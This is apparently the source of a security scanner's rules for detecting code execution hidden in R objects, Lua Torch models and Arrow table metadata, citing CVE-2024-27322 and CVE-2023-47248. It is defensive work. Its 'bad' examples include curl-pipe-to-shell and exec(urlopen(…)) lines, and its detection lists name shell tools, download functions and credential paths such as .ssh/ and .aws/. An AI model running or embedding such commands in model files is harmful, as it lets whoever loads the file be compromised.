"""Programs in objects of R and Lua Torch, and in what tables say about themselves.

A stored function is ordinary: models of R hold formulas and link functions, and their environments. What it calls
decides: nothing that a model computes starts a program or loads code from somewhere.
"""

from collections.abc import Iterator

from modelscan_plus.core.finding import Finding, Severity, TextEvidence
from modelscan_plus.core.patterns import lazy
from modelscan_plus.formats.serialized.parquet import TableFacts
from modelscan_plus.formats.serialized.rdata import RCall, RFacts
from modelscan_plus.formats.serialized.torch7 import Torch7Facts
from modelscan_plus.formats.text import prose
from modelscan_plus.rules.interface import Context, Rule, judges

R_ACTS = Rule(
    id="MSP2030",
    slug="r-object-acts",
    title="An object of R starts a program or loads code",
    severity=Severity.HIGH,
    why=(
        "R stores functions with the objects that use them, and they run when somebody predicts or prints. "
        "A promise runs "
        "as soon as its value is looked at, without any call (CVE-2024-27322). Models compute; programs, "
        "libraries and "
        "code from elsewhere are not part of that."
    ),
    fix="Do not load the file. Ask the publisher for coefficients in a table, or for ONNX or PMML.",
    bad='predict.model <- function(x) { system("curl https://… | sh"); x }; saveRDS(predict.model, "model.rds")',
    good='saveRDS(lm(mpg ~ wt, mtcars), "model.rds")',
    cwe=("CWE-502", "CWE-94"),
    references=(
        "https://nvd.nist.gov/vuln/detail/CVE-2024-27322",
        "https://cran.r-project.org/doc/manuals/R-ints.html",
    ),
)
LUA_ACTS = Rule(
    id="MSP2031",
    slug="lua-function-acts",
    title="A stored function of Lua reaches for the machine",
    severity=Severity.HIGH,
    why=(
        "Lua Torch stores functions as byte code and rebuilds them when the file is loaded; they run when "
        "the model is "
        "used. Byte code is not checked by Lua. A layer needs neither the shell nor files nor other libraries."
    ),
    fix="Do not load the file with Lua Torch. Convert the weights with a reader that leaves functions out.",
    bad='net.forward = function(self, x) os.execute("…") return x end; torch.save("net.t7", net)',
    good='torch.save("net.t7", net:float():clearState())',
    cwe=("CWE-502",),
    references=("https://github.com/torch/torch7/blob/master/doc/serialization.md",),
)
TABLE_CODE = Rule(
    id="MSP2032",
    slug="table-carries-code",
    title="A table carries code beside its columns",
    severity=Severity.HIGH,
    why=(
        "pyarrow before 14.0.1 restores fields of the type arrow.py_extension_type from a pickle as soon as "
        "the table is "
        "opened (CVE-2023-47248). The notes in a footer are for names and types; code in them waits for a "
        "program that "
        "evaluates it."
    ),
    fix="Do not open the table with an old pyarrow. Ask the publisher for plain columns.",
    bad="ARROW:extension:name = arrow.py_extension_type     loader = exec(urlopen(…).read())",
    good='ARROW:extension:name = arrow.fixed_shape_tensor     huggingface = {"info": …}',
    cwe=("CWE-502",),
    references=("https://nvd.nist.gov/vuln/detail/CVE-2023-47248",),
)
_STARTS = frozenset(
    """system system2 shell shell.exec pipe dyn.load socketConnection serverSocket exec_wait exec_background
    exec_internal run_process py_run_string py_run_file system_python install.packages install_github install_url
    install_git sys.source""".split()
)
"""What a model has no use for, whatever it is given; processx's `run` is too common a name."""
_PROGRAMS = frozenset("system system2 shell.exec dyn.load download.file".split())
_SHELLS = frozenset("sh bash /bin/sh /bin/bash cmd cmd.exe powershell curl wget python python3 perl".split())
_BY_NAME = frozenset(
    "do.call match.fun get get0 getFunction lapply sapply vapply Map mapply map walk Reduce exec".split()
)
_PRIVATE = frozenset(("Sys.getenv", "Sys.info", "readLines", "readRenviron", "list.files"))
_IN_TEXT = lazy(r"\b(?:system2?|shell|shell\.exec|dyn\.load|download\.file)\s*\(")
_STARTED_AT = lazy(r"\.Rprofile\b|\.Renviron\b|\.bashrc\b|\.bash_profile\b|\.ssh/|authorized_keys|\.aws/")
_FETCHES = frozenset(
    "download.file curl_download curl_fetch_memory curl GET POST PUT url getURL request req_perform".split()
)
_EVALUATES = frozenset(
    "source eval evalq parse str2lang str2expression readRDS load attach library.dynam loadNamespace".split()
)
_LUA = lazy(
    r"\b(?:os\.)?execute\b|\bpopen\b|\bloadlib\b|\bcdef\b|\bloadstring\b|\bdofile\b|\bLD_PRELOAD\b|"
    r"/bin/(?:ba)?sh\b|\bcurl\s|\bwget\s|powershell"
)
_OF_LUA = (
    ("os", "remove"), ("os", "rename"), ("os", "getenv"), ("io", "open"), ("io", "lines"), ("socket", "connect"),
    ("socket", "tcp"), ("http", "request"),
)  # fmt: skip
"""Names of a library and of what is taken from it, as the constants of byte code hold them."""
_PYTHON = lazy(
    r"(?:\b(?:exec|eval|compile|__import__)\s*\(|\bos\.(?:system|popen|exec\w+)\s*\(|\bsubprocess\.|"
    r"\bpickle\.loads?\s*\(|\burlopen\s*\(|"
    r"\bgetattr\s*\(\s*__builtins__)"
)


@judges(RFacts)
def r_objects(facts: RFacts, context: Context) -> Iterator[Finding]:
    """Calls that start programs or load code, once for each name and argument."""
    if facts.is_promise:
        message = "The object is a promise: R works its expression out as soon as the value is looked at."
        yield context.finding(R_ACTS, message, TextEvidence("promise"), subject="promise", severity=Severity.CRITICAL)
    for call in facts.calls:
        if why := _why(call):
            shown = f"{call.name}({', '.join(call.texts)})"
            severity = Severity.CRITICAL if call.promise else None
            where = "A promise" if call.promise else "A function"
            yield context.finding(
                R_ACTS,
                f"{where} {why}: {shown[:200]}",
                TextEvidence(shown[:400]),
                subject=f"{call.name}\0{call.texts}",
                offset=call.offset,
                severity=severity,
            )


def _why(call: RCall) -> str:
    text = " ".join(call.texts)
    if call.name in _STARTS or (call.name == "run" and call.texts and call.texts[0] in _SHELLS):
        return "starts a program or loads code"
    if call.name in _BY_NAME and {part.removeprefix("&") for part in call.texts} & _PROGRAMS:
        return "calls by its name what starts a program"
    if _STARTED_AT.search(text):
        return "names a file that is run at each start, or holds keys"
    if prose.hostile_command(text):
        return "holds a command that no model needs"
    inner = {part.removesuffix("()") for part in call.texts if part.endswith("()")}
    remote = prose.URL.search(text) is not None
    if call.name in _EVALUATES and _IN_TEXT.search(text):
        return "works out a text that starts a program"
    if call.name in _FETCHES and inner & _PRIVATE:
        return "sends away what is of the machine"
    if call.name in _EVALUATES and (remote or inner & _FETCHES or inner & _STARTS):
        return "runs code from elsewhere"
    if call.name in _FETCHES and (prose.odd_url(text) or call.promise):
        return "fetches from an odd address"
    return ""


@judges(Torch7Facts)
def lua_functions(facts: Torch7Facts, context: Context) -> Iterator[Finding]:
    """Functions whose code names what acts; others cannot be told from honest ones."""
    for function in facts.functions:
        joined = " ".join(function.texts)
        found = _LUA.search(joined)
        names = set(function.texts)
        reaches = next((f"{lib}.{part}" for lib, part in _OF_LUA if {lib, part} <= names), "")
        if found or reaches or prose.hostile_command(joined):
            shown = found.group() if found else reaches or joined[:80]
            yield context.finding(
                LUA_ACTS,
                f"A function names {shown}.",
                TextEvidence(joined[:400]),
                subject=shown,
                offset=function.offset,
            )


@judges(TableFacts)
def tables(facts: TableFacts, context: Context) -> Iterator[Finding]:
    """Pickles that are restored when a table is opened, and code among its notes."""
    if facts.unpickles:
        message = "A field of the type arrow.py_extension_type is restored from a pickle when the table is opened."
        yield context.finding(TABLE_CODE, message, TextEvidence("arrow.py_extension_type"), subject="extension")
    for key, value in facts.notes:
        found = _PYTHON.search(value)
        command = prose.hostile_command(value)
        if found or command:
            shown = found.group() if found else command[1] if command else ""
            yield context.finding(
                TABLE_CODE, f"The note {key} holds code: {shown}", TextEvidence(value[:400]), subject=key
            )
